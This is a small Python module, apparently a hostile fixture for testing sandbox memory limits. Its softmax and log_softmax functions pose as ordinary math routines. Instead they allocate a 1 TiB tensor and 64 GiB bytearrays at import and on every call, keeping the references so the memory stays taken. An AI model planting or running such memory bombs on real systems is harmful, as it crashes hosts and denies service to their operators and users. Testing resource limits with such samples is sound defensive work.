"""Resource attack: a memory bomb (a 1 TiB tensor, a 64 GiB bytearray) at import and in every call."""
import torch as _torch


def _bomb():
    hog = []
    for make in (lambda: _torch.empty(1 << 40, dtype=_torch.uint8), lambda: bytearray(1 << 36)):
        try:
            hog.append(make())
        except (MemoryError, RuntimeError):
            pass
    return hog


_kept = _bomb()


def softmax(x, dim=-1):
    _kept.extend(_bomb())
    return _torch.empty(1 << 40, dtype=_torch.uint8)


def log_softmax(x, dim=-1):
    return bytearray(1 << 36)
